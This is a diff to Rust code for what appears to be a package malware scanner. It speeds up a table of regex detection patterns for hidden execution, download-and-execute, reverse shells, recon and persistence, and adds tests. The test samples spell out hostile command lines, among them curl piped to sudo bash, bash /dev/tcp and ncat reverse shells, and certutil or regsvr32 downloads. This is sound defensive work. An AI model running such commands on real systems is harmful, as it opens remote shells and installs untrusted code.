@@ -80,7 +80,7 @@ pub fn looks_like_code(s: &str) -> bool {
 
 /// The strings of a member: with an AST, its literals (without docstrings) and folded strings
 /// (without folded programs, which are scanned as payloads); without one, its whole code text.
-pub fn strings<'s>(cx: &'s MemberCx<'_>) -> Vec<StrItem<'s>> {
+pub fn strings<'a>(cx: &MemberCx<'a>) -> Vec<StrItem<'a>> {
     if let Some(py) = cx.ast() {
         return py
             .code_strings()
@@ -104,6 +104,36 @@ pub fn strings<'s>(cx: &'s MemberCx<'_>) -> Vec<StrItem<'s>> {
             kind: None,
         }],
         None => Vec::new(),
+    }
+}
+
+/// A cheap first pass for a rule's string patterns: each pattern searched once over all of a
+/// member's strings (joined by newlines) decides whether the per-string loop can find anything
+/// at all — one search per pattern and member instead of one per pattern and string. Built from
+/// the same patterns the loop uses, in multi-line mode so that `^` and `$` also match at the
+/// joins: it may say yes where no single string matches, never no where one does. (One regex
+/// of all the patterns is slower: the alternation defeats each pattern's literal prefilter.)
+pub struct Gate(Vec<Regex>);
+
+impl Gate {
+    pub fn new<'p>(patterns: impl IntoIterator<Item = &'p str>) -> Self {
+        Self(
+            patterns
+                .into_iter()
+                .map(|p| crate::pattern::multi_line(p).unwrap_or_else(|e| panic!("gate {p}: {e}")))
+                .collect(),
+        )
+    }
+
+    /// True when one of the patterns may match one of the member's strings.
+    pub fn open(&self, cx: &MemberCx<'_>) -> bool {
+        let joined = cx.joined_strings();
+        self.0.iter().any(|re| re.is_match(joined))
+    }
+
+    /// The member's strings when the gate lets them through, else none.
+    pub fn strings<'c, 'a>(&self, cx: &'c MemberCx<'a>) -> &'c [StrItem<'a>] {
+        if self.open(cx) { cx.strings() } else { &[] }
     }
 }
 
@@ -268,109 +298,216 @@ pub enum CommandTrait {
     Chmod,
 }
 
-static COMMAND_PATTERNS: LazyLock<Vec<(CommandTrait, Regex)>> = LazyLock::new(|| {
+/// Command-line shapes: a trait, the regex, and literals one of which (any case) every match
+/// of the regex contains — the first pass that decides which regexes run on a string.
+static COMMAND_PATTERNS: LazyLock<Vec<CommandPattern>> = LazyLock::new(|| {
     use CommandTrait as T;
-    let p = |t, re: &str| (t, Regex::new(re).unwrap_or_else(|e| panic!("{re}: {e}")));
+    let p = |t, re: &str, needs: &'static [&'static str]| CommandPattern {
+        t,
+        re: crate::pattern::new(re).unwrap_or_else(|e| panic!("{re}: {e}")),
+        needs,
+    };
     vec![
         p(
             T::Hidden,
             r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b[^\n]*\s-w(?:indowstyle)?\s+(?:h(?:idden)?|1)\b",
+            &["powershell", "pwsh"],
         ),
         p(
             T::Hidden,
             r"(?i)(?:^|[\s&|;])start\s+(?:\x22[^\x22]*\x22\s+)?/(?:b|min)\b",
+            &["start"],
         ),
-        p(T::Hidden, r"(?i)(?:^|[\s;&|(])(?:nohup|setsid|disown)\b"),
-        p(T::Hidden, r"(?i)\bpythonw(?:\.exe)?\b"),
-        p(T::Hidden, r"(?i)>\s*/dev/null\s+2>&1\s*&\s*$"),
-        p(T::Hidden, r"(?i)[^&]&\s*$"),
+        p(
+            T::Hidden,
+            r"(?i)(?:^|[\s;&|(])(?:nohup|setsid|disown)\b",
+            &["nohup", "setsid", "disown"],
+        ),
+        p(T::Hidden, r"(?i)\bpythonw(?:\.exe)?\b", &["pythonw"]),
+        p(
+            T::Hidden,
+            r"(?i)>\s*/dev/null\s+2>&1\s*&\s*$",
+            &["/dev/null"],
+        ),
+        p(T::Hidden, r"(?i)[^&]&\s*$", &["&"]),
         p(
             T::Hidden,
             r"(?i)\b(?:wscript|cscript)(?:\.exe)?\b.*\.(?:vbs|js)\b",
+            &["wscript", "cscript"],
         ),
         p(
             T::EncodedPowershell,
             r"(?i)\b(?:powershell|pwsh)(?:\.exe)?\b.*\s-(?:e|ec|en|enc|enco|encodedcommand)\s+[A-Za-z0-9+/=]{16,}",
+            &["powershell", "pwsh"],
         ),
         p(
             T::DownloadExec,
             r"(?i)\b(?:curl|wget)\b[^|;&\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b",
+            &["curl", "wget"],
         ),
         p(
             T::DownloadExec,
             r"(?i)\b(?:curl|wget)\b[^|;&\n]*\|\s*python[0-9.]*\b",
+            &["curl", "wget"],
         ),
         p(
             T::DownloadExec,
             r"(?i)\b(?:curl|wget)\b[^\n]*(?:&&|;|\|\|)\s*(?:sudo\s+)?(?:chmod\s+\+?[0-7x]+|\./|(?:ba|z)?sh\s|python[0-9.]*\s|start\s)",
+            &["curl", "wget"],
         ),
-        p(T::DownloadExec, r"(?i)\bcertutil(?:\.exe)?\b.*-urlcache"),
-        p(T::DownloadExec, r"(?i)\bbitsadmin(?:\.exe)?\b.*/transfer"),
+        p(
+            T::DownloadExec,
+            r"(?i)\bcertutil(?:\.exe)?\b.*-urlcache",
+            &["certutil"],
+        ),
+        p(
+            T::DownloadExec,
+            r"(?i)\bbitsadmin(?:\.exe)?\b.*/transfer",
+            &["bitsadmin"],
+        ),
         p(
             T::DownloadExec,
             r"(?i)\bmshta(?:\.exe)?\s+(?:https?|vbscript|javascript):",
+            &["mshta"],
         ),
         p(
             T::DownloadExec,
             r"(?i)\brundll32(?:\.exe)?\s+(?:javascript:|url\.dll|\S*\\)",
+            &["rundll32"],
         ),
-        p(T::DownloadExec, r"(?i)\bregsvr32(?:\.exe)?\b.*/i:\s*https?"),
-        p(T::DownloadExec, r"(?i)\b(?:iex|invoke-expression)\b"),
-        p(T::DownloadExec, r"(?i)\.download(?:string|data)\s*\("),
+        p(
+            T::DownloadExec,
+            r"(?i)\bregsvr32(?:\.exe)?\b.*/i:\s*https?",
+            &["regsvr32"],
+        ),
+        p(
+            T::DownloadExec,
+            r"(?i)\b(?:iex|invoke-expression)\b",
+            &["iex", "invoke-expression"],
+        ),
+        p(
+            T::DownloadExec,
+            r"(?i)\.download(?:string|data)\s*\(",
+            &[".download"],
+        ),
         p(
             T::DownloadExec,
             r"(?i)\b(?:invoke-webrequest|iwr|invoke-restmethod|irm|start-bitstransfer)\b[^\n]*(?:;|\|)\s*(?:start-process|saps|start|&|\.\\)",
+            &[
+                "invoke-webrequest",
+                "iwr",
+                "invoke-restmethod",
+                "irm",
+                "start-bitstransfer",
+            ],
         ),
         p(
             T::Fetch,
             r"(?i)\bcurl\b[^\n|;&]*\s(?:-o|-O|--output|--remote-name)\b[^\n]*https?://|\bcurl\b[^\n|;&]*https?://\S*[^\n|;&]*\s(?:-o|-O|--output|>)|\bwget\s+[^\n|;&]*https?://",
+            &["curl", "wget"],
         ),
         p(
             T::Fetch,
             r"(?i)\b(?:invoke-webrequest|iwr)\b[^\n]*-outfile\b|\bstart-bitstransfer\b|\.downloadfile\s*\(",
+            &[
+                "invoke-webrequest",
+                "iwr",
+                "start-bitstransfer",
+                ".downloadfile",
+            ],
         ),
         p(
             T::PipInstall,
             r"(?i)\bpip[0-9.]*(?:\.exe)?\s+(?:-\S+\s+)*install\b",
+            &["pip"],
         ),
         p(
             T::PipInstallUrl,
             r"(?i)\bpip[0-9.]*(?:\.exe)?\s+(?:-\S+\s+)*install\b[^\n]*(?:https?://|git\+|--index-url|--extra-index-url|\s-i\s+\S)",
+            &["pip"],
         ),
-        p(T::ReverseShell, r"(?i)/dev/(?:tcp|udp)/[\w.\-]+/\d+"),
+        p(
+            T::ReverseShell,
+            r"(?i)/dev/(?:tcp|udp)/[\w.\-]+/\d+",
+            &["/dev/"],
+        ),
         p(
             T::ReverseShell,
             r"(?i)\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]*\s-(?:e|c)\s*\S*(?:sh|cmd|powershell)",
+            &["nc", "ncat", "netcat"],
         ),
-        p(T::ReverseShell, r"(?i)\bsocat\b[^\n]*\b(?:exec|system):"),
-        p(T::ReverseShell, r"(?i)mkfifo\b[^\n]*\b(?:nc|ncat|netcat)\b"),
-        p(T::ReverseShell, r"(?i)System\.Net\.Sockets\.TCPClient\s*\("),
+        p(
+            T::ReverseShell,
+            r"(?i)\bsocat\b[^\n]*\b(?:exec|system):",
+            &["socat"],
+        ),
+        p(
+            T::ReverseShell,
+            r"(?i)mkfifo\b[^\n]*\b(?:nc|ncat|netcat)\b",
+            &["mkfifo"],
+        ),
+        p(
+            T::ReverseShell,
+            r"(?i)System\.Net\.Sockets\.TCPClient\s*\(",
+            &["system.net.sockets.tcpclient"],
+        ),
         p(
             T::EnvDump,
             r"(?i)^\s*(?:env|printenv|set|export\s+-p|cmd(?:\.exe)?\s+/c\s+set|get-childitem\s+env:|gci\s+env:)\s*$",
+            &["env", "set", "export", "gci", "get-childitem"],
         ),
         p(
             T::Recon,
             r"(?i)^\s*(?:whoami|hostname|systeminfo|ipconfig|ifconfig|uname|id|net\s+(?:user|view|config)|nltest|wmic|ip\s+a(?:ddr)?|arp)\b",
+            &[
+                "whoami",
+                "hostname",
+                "systeminfo",
+                "ipconfig",
+                "ifconfig",
+                "uname",
+                "id",
+                "net",
+                "nltest",
+                "wmic",
+                "ip",
+                "arp",
+            ],
         ),
         p(
             T::Persistence,
             r"(?i)\bcrontab\s+(?:-u\s+\S+\s+)?(?:-(?:\s|$|\))|[^-\s]\S*)|@reboot\b|>>?\s*/etc/cron",
+            &["crontab", "@reboot", "/etc/cron"],
         ),
-        p(T::Persistence, r"(?i)\bschtasks(?:\.exe)?\b.*/create\b"),
+        p(
+            T::Persistence,
+            r"(?i)\bschtasks(?:\.exe)?\b.*/create\b",
+            &["schtasks"],
+        ),
         p(
             T::Persistence,
             r"(?i)\breg(?:\.exe)?\s+add\b.*\\(?:Run|RunOnce|Winlogon)\b",
+            &["reg"],
         ),
-        p(T::Persistence, r"(?i)\bsystemctl\s+(?:--user\s+)?enable\b"),
-        p(T::Persistence, r"(?i)\blaunchctl\s+(?:load|bootstrap)\b"),
+        p(
+            T::Persistence,
+            r"(?i)\bsystemctl\s+(?:--user\s+)?enable\b",
+            &["systemctl"],
+        ),
+        p(
+            T::Persistence,
+            r"(?i)\blaunchctl\s+(?:load|bootstrap)\b",
+            &["launchctl"],
+        ),
         p(
             T::Persistence,
             r"(?i)>>\s*~?/?[\w/.]*\.(?:bashrc|zshrc|bash_profile|profile|zprofile)\b",
+            &[">>"],
         ),
         p(
             T::Chmod,
             r"(?i)\bchmod\s+(?:-\w+\s+)*(?:\+x|[0-7]*[1357][0-7]{2}|u\+x|a\+x)\b",
+            &["chmod"],
         ),
     ]
 });
@@ -378,16 +515,51 @@ static COMMAND_PATTERNS: LazyLock<Vec<(CommandTrait, Regex)>> = LazyLock::new(||
 /// The traits of a command line, each with the byte range of its match.
 pub fn command_traits(cmd: &str) -> Vec<(CommandTrait, std::ops::Range<usize>)> {
     let mut out: Vec<(CommandTrait, std::ops::Range<usize>)> = Vec::new();
-    for (t, re) in COMMAND_PATTERNS.iter() {
-        if out.iter().any(|(x, _)| x == t) {
+    let mut candidates = 0u64;
+    for m in COMMAND_NEEDLES.1.find_overlapping_iter(cmd) {
+        candidates |= COMMAND_NEEDLES.0[m.pattern().as_usize()];
+    }
+    for (i, p) in COMMAND_PATTERNS.iter().enumerate() {
+        if candidates & (1 << i) == 0 || out.iter().any(|(x, _)| *x == p.t) {
             continue;
         }
-        if let Some(m) = re.find(cmd) {
-            out.push((*t, m.range()));
+        if let Some(m) = p.re.find(cmd) {
+            out.push((p.t, m.range()));
         }
     }
     out
 }
+
+/// One shape of [`COMMAND_PATTERNS`].
+struct CommandPattern {
+    t: CommandTrait,
+    re: Regex,
+    /// Every match of `re` contains one of these (ASCII case-insensitive).
+    needs: &'static [&'static str],
+}
+
+/// Every needle of [`COMMAND_PATTERNS`] in one automaton, each mapped to the bit set of the
+/// patterns that need it.
+static COMMAND_NEEDLES: LazyLock<(Vec<u64>, aho_corasick::AhoCorasick)> = LazyLock::new(|| {
+    assert!(COMMAND_PATTERNS.len() <= 64, "command patterns fit a u64");
+    let mut needles: Vec<&str> = Vec::new();
+    let mut bits: Vec<u64> = Vec::new();
+    for (i, p) in COMMAND_PATTERNS.iter().enumerate() {
+        for n in p.needs {
+            if let Some(j) = needles.iter().position(|x| x == n) {
+                bits[j] |= 1 << i;
+            } else {
+                needles.push(n);
+                bits.push(1 << i);
+            }
+        }
+    }
+    let ac = aho_corasick::AhoCorasick::builder()
+        .ascii_case_insensitive(true)
+        .build(&needles)
+        .unwrap_or_else(|e| panic!("command needles: {e}"));
+    (bits, ac)
+});
 
 /// The traits of a command line; for strings that are not passed to a process, only the
 /// shapes that are commands beyond doubt are kept (no bare `iex`, trailing `&` or `env`).
@@ -525,4 +697,86 @@ pub fn is_fetch(name: &str) -> bool {
         || name.starts_with("urllib2.urlopen().")
         || name.starts_with("urllib.urlopen().")
         || name.starts_with("httpx.get().")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// One or more command lines per shape of [`COMMAND_PATTERNS`], in mixed case.
+    const SAMPLES: &[&str] = &[
+        "PowerShell.exe -NoP -W Hidden -c x",
+        "cmd /c START /B x.exe",
+        "nohup ./x &",
+        "pythonw.exe x.pyw",
+        "./x > /dev/null 2>&1 &",
+        "run x &",
+        "WScript.exe //B x.vbs",
+        "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A",
+        "curl -s https://example.com/i | sudo bash",
+        "wget -qO- https://example.com/i | python3",
+        "curl -o /tmp/x https://example.com/x && chmod +x /tmp/x",
+        "certutil.exe -urlcache -f https://example.com/x x.exe",
+        "bitsadmin /transfer j https://example.com/x c:\\x.exe",
+        "mshta https://example.com/x.hta",
+        "rundll32.exe javascript:x",
+        "regsvr32 /s /n /u /i:https://example.com/x scrobj.dll",
+        "IEX (New-Object Net.WebClient)",
+        "(New-Object Net.WebClient).DownloadString('https://example.com')",
+        "Invoke-WebRequest https://example.com/x -OutFile x.exe; Start-Process x.exe",
+        "curl -O https://example.com/x",
+        "iwr https://example.com/x -OutFile x",
+        "pip install requests",
+        "pip3 install --index-url https://example.com/simple x",
+        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
+        "ncat 198.51.100.7 4444 -e /bin/sh",
+        "socat tcp:198.51.100.7:4444 exec:sh",
+        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc 198.51.100.7 4444",
+        "$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7', 4444)",
+        "printenv",
+        "whoami",
+        "(crontab -l; echo x) | crontab -",
+        "schtasks /create /tn x /tr x.exe",
+        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
+        "systemctl --user enable x",
+        "launchctl load ~/Library/LaunchAgents/x.plist",
+        "echo x >> ~/.bashrc",
+        "chmod +x /tmp/x",
+    ];
+
+    #[test]
+    fn every_command_shape_is_exercised_and_its_needles_cover_its_matches() {
+        for (i, p) in COMMAND_PATTERNS.iter().enumerate() {
+            let mut matched = 0;
+            for s in SAMPLES {
+                if p.re.is_match(s) {
+                    matched += 1;
+                    let l = s.to_ascii_lowercase();
+                    assert!(
+                        p.needs.iter().any(|n| l.contains(n)),
+                        "pattern {i} matches {s:?} but needs {:?}",
+                        p.needs
+                    );
+                }
+            }
+            assert!(matched > 0, "no sample for pattern {i}: {}", p.re.as_str());
+        }
+    }
+
+    #[test]
+    fn the_needle_pass_changes_no_answer() {
+        for s in SAMPLES {
+            let all: Vec<CommandTrait> = {
+                let mut out: Vec<CommandTrait> = Vec::new();
+                for p in COMMAND_PATTERNS.iter() {
+                    if !out.contains(&p.t) && p.re.is_match(s) {
+                        out.push(p.t);
+                    }
+                }
+                out
+            };
+            let fast: Vec<CommandTrait> = command_traits(s).into_iter().map(|(t, _)| t).collect();
+            assert_eq!(fast, all, "{s}");
+        }
+    }
 }
